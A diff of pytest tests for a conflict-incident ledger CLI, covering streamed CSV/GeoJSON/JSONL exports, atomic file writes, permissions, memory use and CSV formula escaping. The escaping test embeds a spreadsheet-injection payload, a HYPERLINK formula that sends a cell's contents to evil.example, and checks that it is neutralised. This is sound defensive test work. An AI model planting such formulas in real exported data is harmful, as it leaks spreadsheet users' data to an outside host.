@@ -4,10 +4,12 @@ from __future__ import annotations
 
 import builtins
 import csv
+import datetime as dt
 import io
 import json
 
 import pytest
+from backends import BACKENDS, fresh_ledger_url
 from ledger_samples import LOCATED, TOTAL, build_sample_ledger
 from typer.testing import CliRunner
 
@@ -124,3 +126,225 @@ def test_serve_needs_an_existing_ledger(tmp_path):
     result = run("serve", "--db", str(tmp_path / "missing.db"))
     assert result.exit_code == 1
     assert "No ledger" in result.output
+
+
+# ------------------------------------------------------------------ streaming exports, on both backends
+
+
+def fill_synthetic(ledger, count: int, *, first: int = 0) -> None:
+    """Insert `count` synthetic incidents in bulk (one report, figure and evidence sentence each).
+
+    Dates, tolls and places repeat, with unknowns (None), so sort orders have long runs of ties."""
+    from sqlalchemy import insert
+
+    from sitrep.store.schema import ArticleRow, EvidenceRow, FigureRow, IncidentArticleRow, IncidentRow
+
+    now = dt.datetime.now(dt.timezone.utc)
+    days = [dt.date(2020, 1, 1), None, dt.date(2019, 6, 30), dt.date(2020, 1, 1)]
+    tolls = [5, None, 0, 5, 12]
+    sentence = "Gunmen attacked a convoy near the town on the road to the market, killing {k} people, officials said. "
+    articles, incidents, links, evidence, figures = [], [], [], [], []
+    for n in range(first, first + count):
+        iid, aid = f"SYN-{n:06d}", f"synart{n:010d}"
+        day, killed = days[n % len(days)], tolls[n % len(tolls)]
+        text = sentence.format(k=killed if killed is not None else "several") * 3
+        articles.append(dict(id=aid, content_hash=f"synthetic-{n}", title=f"Report {n}", url=None, published=day,
+                             text=text, ingested_at=now, source_id=None))
+        incidents.append(dict(
+            id=iid, event_type="Violence against civilians", sub_event_type="Attack", date=day,
+            date_precision="day" if day else None, location_name=f"Town{n % 7}", lat=10 + n % 7, lon=-3.5 - n % 5,
+            country_code="BF", admin1="Centre", location_precision="town", killed_low=killed, killed_best=killed,
+            killed_high=killed, perpetrators=[{"name": "Gunmen", "basis": "reported"}], targets=[], victims=[],
+            weapons=[], related=[], target_types=[], suicide=False, created_at=now, updated_at=now,
+        ))
+        links.append(dict(incident_id=iid, article_id=aid))
+        evidence.append(dict(incident_id=iid, article_id=aid, field="event", start=0, end=len(text), text=text))
+        if killed is not None:
+            figures.append(dict(incident_id=iid, article_id=aid, kind="killed", value=killed, qualifier="exact",
+                                reported_by="officials", quote=text[:60], start=0, end=60))
+    with ledger._sessions.begin() as session:
+        for model, rows in ((ArticleRow, articles), (IncidentRow, incidents), (IncidentArticleRow, links),
+                            (EvidenceRow, evidence), (FigureRow, figures)):
+            if rows:
+                session.execute(insert(model), rows)
+
+
+@pytest.fixture(scope="module", params=BACKENDS)
+def sample_url(request, tmp_path_factory):
+    """The sample ledger on SQLite and on PostgreSQL (its URL: the CLI opens it itself)."""
+    url = fresh_ledger_url(request, tmp_path_factory.mktemp("export-backends"))
+    build_sample_ledger(url).close()
+    return url
+
+
+@pytest.fixture(scope="module", params=BACKENDS)
+def ties_ledger(request, tmp_path_factory):
+    """The sample ledger and 45 synthetic incidents with many equal dates and tolls and unknowns."""
+    from sitrep.store.ledger import Ledger
+
+    url = fresh_ledger_url(request, tmp_path_factory.mktemp("export-ties"))
+    build_sample_ledger(url).close()
+    ledger = Ledger(url)
+    fill_synthetic(ledger, 45)
+    yield ledger
+    ledger.close()
+
+
+@pytest.mark.parametrize("sort", ["-date", "date", "-killed", "killed"])
+@pytest.mark.parametrize("page_size", [1, 2, 3, 7, 500])
+def test_iter_incidents_pages_in_the_order_of_incidents(ties_ledger, sort, page_size):
+    expected = ties_ledger.incidents(sort=sort)
+    got = list(ties_ledger.iter_incidents(sort=sort, page_size=page_size))
+    assert [i.id for i in got] == [i.id for i in expected]
+    if page_size == 7:
+        assert got == expected  # the full records
+    filters = dict(min_killed=1, since=dt.date(2019, 7, 1))
+    assert [i.id for i in ties_ledger.iter_incidents(sort=sort, page_size=page_size, **filters)] == [
+        i.id for i in ties_ledger.incidents(sort=sort, **filters)
+    ]
+
+
+def _old_acled_csv(incidents) -> str:
+    """ACLED CSV as it was written before exports streamed (csv.DictWriter over a list)."""
+    from sitrep.exports import acled_rows
+
+    buffer = io.StringIO()
+    writer = csv.DictWriter(buffer, fieldnames=ACLED_COLUMNS, lineterminator="\n")
+    writer.writeheader()
+    for row in acled_rows(list(incidents)):
+        writer.writerow({k: "" if v is None else v for k, v in row.items()})
+    return buffer.getvalue()
+
+
+def test_streamed_exports_are_byte_identical_to_the_whole_ones(sample_url, tmp_path):
+    from sitrep.formats import incidents_geojson
+    from sitrep.store.ledger import Ledger
+
+    with Ledger(sample_url) as ledger:
+        for sort in ("-date", "killed"):
+            incidents = ledger.incidents(sort=sort)
+            expected = {
+                "acled-csv": _old_acled_csv(incidents),
+                "geojson": incidents_geojson(incidents) + "\n",
+                "jsonl": "".join(json.dumps(i.model_dump(mode="json"), ensure_ascii=False) + "\n" for i in incidents),
+            }
+            for fmt, text in expected.items():
+                result = run("export", "--db", sample_url, "--format", fmt, "--sort", sort)
+                assert result.exit_code == 0, result.output
+                assert result.stdout == text, fmt
+                out = tmp_path / f"x.{fmt}"
+                result = run("export", "--db", sample_url, "--format", fmt, "--sort", sort, "-o", str(out))
+                assert result.exit_code == 0, result.output
+                assert out.read_bytes() == text.encode("utf-8"), fmt
+                assert f"{TOTAL} incidents written" in result.output
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.acled-csv", "x.geojson", "x.jsonl"]  # no leftovers
+
+
+def test_export_to_a_missing_folder_is_a_one_line_error(sample_url, tmp_path):
+    target = tmp_path / "missing" / "dir" / "x.csv"
+    result = run("export", "--db", sample_url, "-o", str(target))
+    assert result.exit_code == 2
+    assert "Traceback" not in result.output and not isinstance(result.exception, OSError)
+    lines = result.output.strip().splitlines()
+    assert len(lines) == 1 and "cannot write" in lines[0] and str(target) in result.output.replace("\n", "")
+    assert not target.parent.exists()
+    folder = tmp_path / "a-folder"
+    folder.mkdir()
+    result = run("export", "--db", sample_url, "-o", str(folder))
+    assert result.exit_code == 2 and "cannot write" in result.output
+    assert list(folder.iterdir()) == [] and [p.name for p in tmp_path.iterdir()] == ["a-folder"]
+
+
+def test_an_export_that_fails_half_way_leaves_no_file(sample_url, tmp_path, monkeypatch):
+    from sitrep.store.ledger import Ledger
+
+    real = Ledger.iter_incidents
+
+    def breaks(self, **kwargs):
+        iterator = real(self, **kwargs)
+        yield next(iterator)
+        raise RuntimeError("the database went away")
+
+    monkeypatch.setattr(Ledger, "iter_incidents", breaks)
+    kept = tmp_path / "kept.jsonl"
+    kept.write_text("the previous export\n")
+    for name, fmt in (("new.csv", "acled-csv"), ("kept.jsonl", "jsonl"), ("new.geojson", "geojson")):
+        result = run("export", "--db", sample_url, "--format", fmt, "-o", str(tmp_path / name))
+        assert result.exit_code != 0 and isinstance(result.exception, RuntimeError)
+    assert kept.read_text() == "the previous export\n"
+    assert [p.name for p in tmp_path.iterdir()] == ["kept.jsonl"]  # no half file, no temporary
+
+
+def test_exported_file_has_the_usual_permissions(db, tmp_path):
+    import os
+    import stat
+
+    umask = os.umask(0o022)
+    os.umask(umask)
+    out = tmp_path / "x.csv"
+    assert run("export", "--db", db, "-o", str(out)).exit_code == 0
+    assert stat.S_IMODE(out.stat().st_mode) == 0o666 & ~umask
+
+
+def test_min_killed_beyond_any_toll_is_a_usage_error(db):
+    result = run("export", "--db", db, "--min-killed", "99999999999999999999")
+    assert result.exit_code == 2 and "Traceback" not in result.output
+
+
+def test_csv_exports_escape_formulas(tmp_path):
+    """A report's source (or any text) beginning with a formula trigger is written as text."""
+    from sitrep.records import Article, Evidence, Extraction, Incident, Place, Range
+    from sitrep.store.ledger import Ledger
+
+    source = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    article = Article.from_text("@SUM(1+1) Gunmen killed 4 people in Bobo.", source=source,
+                                published=dt.date(2024, 2, 2))
+    incident = Incident(
+        id="BFA-formula", event_type="Violence against civilians", sub_event_type="Attack",
+        date=dt.date(2024, 2, 1), date_precision="day",
+        location=Place(name="-Bobo", lat=11.18, lon=-4.3, country_code="BF", precision="town"),
+        killed=Range(low=4, best=4, high=4), articles=[article.id],
+        evidence=[Evidence(field="event", article_id=article.id, start=0, end=41, text=article.text)],
+    )
+    path = tmp_path / "formula.db"
+    with Ledger(str(path)) as ledger:
+        ledger.add(article, Extraction(incidents=[incident]))
+    for args, columns in (
+        (["export", "--format", "acled-csv"], ("source", "notes", "location", "longitude")),
+        (["incidents", "--format", "csv"], ("source", "notes", "location", "longitude")),
+    ):
+        result = run(*args, "--db", str(path))
+        assert result.exit_code == 0, result.output
+        row = next(csv.DictReader(io.StringIO(result.stdout)))
+        assert row["source"] == "'" + source
+        assert row["notes"] == "'" + article.text
+        assert row["location"] == "'-Bobo"
+        assert row["longitude"] == "-4.3"
+
+
+def test_cli_export_memory_does_not_grow_with_the_ledger(tmp_path, monkeypatch):
+    """Exporting 5 times as many incidents takes about the same peak memory (streamed, in pages of
+    100 here so that both ledgers span several pages)."""
+    import tracemalloc
+
+    from sitrep.store.ledger import Ledger
+
+    paged = getattr(Ledger, "iter_incidents", None)
+    monkeypatch.setattr(Ledger, "iter_incidents", lambda self, **kw: paged(self, **{**kw, "page_size": 100}),
+                        raising=False)
+    peaks = {}
+    for count in (300, 1500):
+        path = tmp_path / f"big-{count}.db"
+        with Ledger(str(path)) as ledger:
+            fill_synthetic(ledger, count)
+        for fmt in ("acled-csv", "geojson", "jsonl"):
+            out = tmp_path / f"out-{count}.{fmt}"
+            tracemalloc.start()
+            result = run("export", "--db", str(path), "--format", fmt, "-o", str(out))
+            _, peak = tracemalloc.get_traced_memory()
+            tracemalloc.stop()
+            assert result.exit_code == 0, result.output
+            assert f"{count} incidents written" in result.output
+            peaks[count, fmt] = peak
+    for fmt in ("acled-csv", "geojson", "jsonl"):
+        assert peaks[1500, fmt] < 1.5 * peaks[300, fmt], peaks
